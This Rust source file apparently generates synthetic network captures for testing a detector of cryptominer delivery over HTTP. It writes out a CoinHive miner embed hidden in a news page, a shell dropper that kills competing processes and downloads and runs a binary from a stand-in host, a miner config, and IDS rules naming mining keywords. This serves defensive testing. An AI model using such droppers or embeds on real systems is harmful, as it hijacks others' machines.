//! Miners on their way in over plain HTTP: pages that start one, scripts, archives and configurations; and documents
//! that only quote one.

use super::look_alike::one;
use crate::benign::Script;
use crate::rng::Rng;
use crate::scene::{HostTruth, Level, Role, Scene};
use crate::stage::{MORNING, Stage, inside, server};
use crate::tcp::{Close, Segmentation, Side};
use crate::wallet::{Kind, address};
use crate::wire::http;

const BROWSER: (&str, &str) = ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:132.0)");

/// A file that is fetched: its path, its type, its bytes.
struct File {
    path: &'static str,
    kind: &'static str,
    bytes: Vec<u8>,
    chunked: bool,
}

fn fetch(host: &str, files: &[File]) -> Script {
    let mut script = Script::default();
    for file in files {
        script.client(40, http::request("GET", file.path, host, &[BROWSER], ""));
        let headers = [("Server", "nginx"), ("Content-Type", file.kind)];
        script.server(
            9,
            if file.chunked {
                http::chunked("200 OK", &headers, &file.bytes, 1000)
            } else {
                http::response("200 OK", &headers, &file.bytes)
            },
        );
    }
    script
}

/// A host that fetched what starts a miner: worth a line, and no more by itself.
fn taken(seed: u64, id: &str, note: &str, files: &[File]) -> Scene {
    let mut stage = Stage::new(seed, id);
    let mut conversation = stage.conversation(inside(31), server(31), 80);
    conversation.close = Close::Finish(Side::Client);
    conversation.segmentation = Segmentation::Each(1460);
    stage.play(&conversation, MORNING, &fetch("files.example", files).turns);
    stage.scene.truth.hosts.push(HostTruth {
        addresses: vec![inside(31).address],
        name: None,
        role: Role::Bystander,
        least: Level::Noted,
        most: Level::Noted,
        sessions: Vec::new(),
    });
    stage.finish(note)
}

fn file(path: &'static str, kind: &'static str, bytes: impl Into<Vec<u8>>) -> File {
    File { path, kind, bytes: bytes.into(), chunked: false }
}

pub(super) fn embed(seed: u64) -> Scene {
    let filler = "<p>news of the day</p>\n".repeat(200);
    let call = "<script>var m=new CoinHive.Anonymous('DKoBUNLeHVbGPnGsMWnBvHwmRAPTgXaB',{throttle:0.3});m.start();</script>";
    let mut page = file("/news", "text/html", format!("<html>{filler}{call}{filler}</html>"));
    page.chunked = true;
    taken(seed, "web-page-embed", "a page that starts a miner with a site key", &[page])
}

fn order(seed: u64) -> String {
    format!("-o stratum+tcp://xmr.pool.example:3333 -u {} -p x", address(Kind::Monero, seed))
}

pub(super) fn script(seed: u64) -> Scene {
    let text = format!(
        "#!/bin/sh\npkill other\nwget -q http://files.example/x -O /tmp/x\nchmod +x /tmp/x\nnohup /tmp/x {} &\n",
        order(seed)
    );
    taken(seed, "script-download", "a script that starts a miner", &[file("/i.sh", "text/plain", text)])
}

/// The name of a release and the beginning of an archive; the rest is random.
pub(super) fn archive(seed: u64) -> Scene {
    let mut bytes = vec![0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 3];
    bytes.extend(Rng::named(seed, "archive").bytes(40_000));
    let path = "/xmrig-6.21.0-linux-static-x64.tar.gz";
    taken(seed, "archive-download", "a release archive by its name", &[file(path, "application/gzip", bytes)])
}

pub(super) fn config(seed: u64) -> Scene {
    let wallet = address(Kind::Monero, seed);
    let text = format!(
        r#"{{"autosave":true,"cpu":true,"donate-level":1,"pools":[{{"url":"xmr.pool.example:3333","user":"{wallet}","pass":"x","keepalive":true}}]}}"#
    );
    taken(seed, "config-download", "a miner's configuration", &[file("/c.json", "application/json", text)])
}

pub(super) fn wiki(seed: u64) -> Scene {
    one(seed, "wiki-page", "a wiki page quotes a miner's command line and an embed", 80, |_| {
        let line = format!("./miner {}", order(seed));
        let page = format!(
            "<html><h1>Mining</h1><pre>{line}</pre><p>Or in a page: <code>&lt;script&gt;new CoinHive.Anonymous('YOUR_SITE_KEY')&lt;/script&gt;</code></p></html>"
        );
        fetch(
            "wiki.example",
            &[file("/wiki/mining", "text/html", page), file("/README.md", "text/plain", line)],
        )
    })
}

pub(super) fn rules(seed: u64) -> Scene {
    one(seed, "ids-rules", "rules of an IDS are fetched", 80, |_| {
        let mut text = "# rules against coin mining\n".to_owned();
        for word in [
            "mining.subscribe",
            "mining.authorize",
            "stratum+tcp://",
            "donate-level",
            "cryptonight",
            "site_key",
        ] {
            text.push_str(&format!(
                "alert tcp $HOME_NET any -> $EXTERNAL_NET any (msg:\"MINER {word}\"; content:\"{word}\"; sid:1;)\n"
            ));
        }
        text.push_str(&format!(
            "alert tcp any any -> any any (msg:\"line\"; content:\"{}\"; sid:2;)\n",
            order(seed)
        ));
        fetch("rules.example", &[file("/miner.rules", "text/plain", text)])
    })
}
